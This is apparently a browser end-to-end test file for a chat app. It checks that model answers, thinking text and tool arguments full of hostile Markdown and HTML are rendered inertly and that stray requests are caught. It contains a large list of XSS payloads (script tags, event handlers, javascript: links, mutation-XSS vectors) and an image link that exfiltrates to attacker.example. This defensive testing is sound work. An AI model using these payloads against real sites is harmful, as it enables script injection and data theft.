// Text from a model that wants more than to be read: it becomes no element that acts, no link that runs, no request.

import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { startStage, type Stage } from "../e2e/journey.ts";
import { launchChromiumIfAny } from "../support/chromium.ts";
import { answerText, ask, send, untilAnswered } from "./support/chat-page.ts";
import { visitsTo } from "./support/visits.ts";

const browser: Browser | null = await launchChromiumIfAny();
let stage: Stage;
const visits = visitsTo(browser, () => stage.url);

beforeAll(async () => {
  stage = await startStage({ TURNS_PER_MINUTE: "1000" });
});
afterAll(async () => {
  await browser?.close();
  await stage.close();
});
afterEach((context) => visits.end(context));

const ELSEWHERE = "https://attacker.example";
const RUN = "document.title='owned';alert(1)";

const HOSTILE = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/x.js"></script>`,
  `Inline <script>${RUN}</script> and <b onmouseover="${RUN}">bold</b>.`,
  `<img src="${ELSEWHERE}/a.png" onerror="${RUN}">`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload="${RUN}"><image href="${ELSEWHERE}/b.png" /></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe src="${ELSEWHERE}/c"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${ELSEWHERE}/d"></object><embed src="${ELSEWHERE}/e">`,
  `<video src="${ELSEWHERE}/f" autoplay></video><audio src="${ELSEWHERE}/g" autoplay></audio>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/h.css"><style>@import "${ELSEWHERE}/i.css"; body { display: none }</style>`,
  `<link rel="preconnect" href="${ELSEWHERE}"><link rel="dns-prefetch" href="${ELSEWHERE}">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/j"><base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}/k"><input autofocus onfocus="${RUN}"><button>Send</button></form>`,
  `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
  `<a href="javascript:${RUN}">a</a> <a href="${ELSEWHERE}" ping="${ELSEWHERE}/l">b</a>`,
  `![an image](${ELSEWHERE}/pixel.png?stolen=secret)`,
  `![by reference][pixel] and ![](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `[![linked](${ELSEWHERE}/m.png)](javascript:alert(1))`,
  `[one](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](java&#x09;script:alert(1)) [four](&#106;avascript:alert(1))`,
  `[five](data:text/html,<script>alert(1)</script>) [six](vbscript:msgbox(1)) [seven](blob:${ELSEWHERE}/n) [eight](file:///etc/passwd)`,
  `[nine](//attacker.example/o) [ten](/api/session) [eleven](<javascript:alert(1)>) [twelve][evil]`,
  `<javascript:alert(1)> javascript:alert(1) <data:text/html,x>`,
  `[good](https://example.com/?q=1 "a title\\" onclick=${RUN}")`,
  `\`\`\`<script>${RUN}</script>\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `| <img src=x onerror=${RUN}> | [x](javascript:alert(1)) |\n|---|---|\n| <script>${RUN}</script> | ![](${ELSEWHERE}/p.png) |`,
  `$<img src=x onerror=${RUN}>$ and \\(<script>${RUN}</script>\\)`,
  `# <img src=x onerror=${RUN}>`,
  `> <iframe src="${ELSEWHERE}/q"></iframe>`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
  `[pixel]: ${ELSEWHERE}/r.png\n[evil]: javascript:alert(1)`,
  "The end of it.",
].join("\n\n");

/** Nothing of the kind belongs into a transcript; the page's own icons are svg, but not of an answer's text. */
const FORBIDDEN = [
  "script, style, link, meta, base, iframe, frame, object, embed, img, image, picture, video, audio, source",
  "form, input, select, math, template, [src], [srcset], [srcdoc], [action], [formaction], [ping], [style]",
  ":is(.prose, .bubble, .thinking-text, .tool-whole) :is(svg, textarea, details)",
].join(", ");

const EVENTS = ["onload", "onerror", "onclick", "onfocus", "ontoggle", "onmouseover"];

/** Also what stood there for a moment only, from now on and after every reload. */
async function watchTranscript(page: Page): Promise<void> {
  await page.addInitScript(
    ({ forbidden, events }) => {
      const look = (root: Element): void => {
        if (root.closest(".log") === null) return;
        const bad = [forbidden, ...events.map((name) => `[${name}]`)].join(", ");
        for (const element of [root, ...root.querySelectorAll("*")]) {
          if (element.matches(bad)) window.reportProblem(`element: ${element.outerHTML.slice(0, 120)}`);
          if (element instanceof HTMLAnchorElement && !/^(?:https?|mailto):$/.test(element.protocol))
            window.reportProblem(`link: ${element.outerHTML.slice(0, 120)}`);
        }
      };
      new MutationObserver((records) => {
        for (const { target, addedNodes } of records) {
          if (target instanceof Element) look(target);
          for (const node of addedNodes) if (node instanceof Element) look(node);
        }
      }).observe(document, { childList: true, subtree: true, attributes: true });
    },
    { forbidden: FORBIDDEN, events: EVENTS },
  );
  await page.reload();
}

describe.skipIf(browser === null)("Hostile Markdown", () => {
  test("from a model is printed: while it streams, cut anywhere, and when it is loaded", async () => {
    stage.fast.script({
      reply: { thinking: `Okay, so ${HOSTILE}`, text: HOSTILE },
      deltas: { seed: 3 },
      chunking: { seed: 4 },
      paceMs: 3,
    });
    const { page } = await visits.begin();
    await watchTranscript(page);
    await send(page, `Write badly. <img src="${ELSEWHERE}/s.png" onerror="${RUN}"> [x](javascript:alert(1))`);
    await untilAnswered(page, 1);
    const check = async (): Promise<void> => {
      const text = answerText(page).last();
      await text.getByText("The end of it.").waitFor();
      const shown = (await text.innerText()).replaceAll(/\s+/g, " ");
      for (const printed of [
        `<script>${RUN}</script>`,
        `<img src=x onerror=${RUN}>`,
        "[one](javascript:alert(1)) [two](JaVaScRiPt:alert(1))",
        "Image: an image (attacker.example)",
      ])
        expect(shown).toContain(printed);
      await page.locator(".thinking summary").click();
      await page.locator(".thinking-text").waitFor();
      expect(await page.title()).toBe("Upshift");
      const links = await page.locator(".message a").evaluateAll((all) =>
        all.map((link) => ({
          protocol: (link as HTMLAnchorElement).protocol,
          rel: link.getAttribute("rel"),
          target: link.getAttribute("target"),
        })),
      );
      expect(links.length).toBeGreaterThan(0);
      for (const link of links)
        expect(link).toEqual({ protocol: "https:", rel: "noopener noreferrer nofollow", target: "_blank" });
    };
    await check();
    await page.reload();
    await untilAnswered(page, 1);
    await check();
  });

  test("in a tool's arguments and error is printed too", async () => {
    const expression = `<img src=x onerror=${RUN}>`;
    const call = JSON.stringify({ expression });
    stage.gateway.script([
      { reply: { thinking: "Well.", toolCalls: [{ name: "calculator", arguments: call }] } },
      { reply: { thinking: "Well.", text: "Done." } },
    ]);
    const { page } = await visits.begin();
    await watchTranscript(page);
    await page.getByRole("radio", { name: "Deep" }).check();
    await ask(page, "Call it.");
    const card = page.locator("details.tool");
    expect(await card.locator(".tool-title").textContent()).toBe(expression);
    expect(await card.locator(".tool-state").textContent()).toBe("failed");
    await card.locator("summary").click();
    await card.locator("dd").first().waitFor();
    expect(await card.locator("dd").first().textContent()).toContain(expression);
  });
});

describe.skipIf(browser === null)("The watch over every visit", () => {
  test("notices a request to another origin, a breach of the policy and a hostile element", async () => {
    stage.fast.script({ reply: { thinking: "Well.", text: "An answer." } });
    const visit = await visits.begin();
    const { page } = visit;
    await watchTranscript(page);
    await ask(page, "Write.");
    expect(visit.problems).toEqual([]);
    visit.expectProblems(/./);
    await answerText(page).evaluate((prose: HTMLElement, address: string) => {
      const image = document.createElement("img");
      image.src = `${address}/a.png`;
      prose.appendChild(image);
      try {
        prose.insertAdjacentHTML("beforeend", "<b>never there</b>");
      } catch {
        // As the policy has it; the watch is told.
      }
      const link = document.createElement("a");
      link.href = "javascript:alert(1)";
      prose.appendChild(link);
      link.click();
      console.error("An error.");
      window.open(`${address}/b`);
    }, ELSEWHERE);
    await expect
      .poll(() => visit.problems.map((problem) => problem.split(" ", 2).join(" ")))
      .toEqual(
        expect.arrayContaining([
          "policy: img-src",
          "policy: script-src-elem",
          "policy: require-trusted-types-for",
          "element: <img",
          "link: <a",
          "console: An",
          "request: GET",
        ]),
      );
  });
});
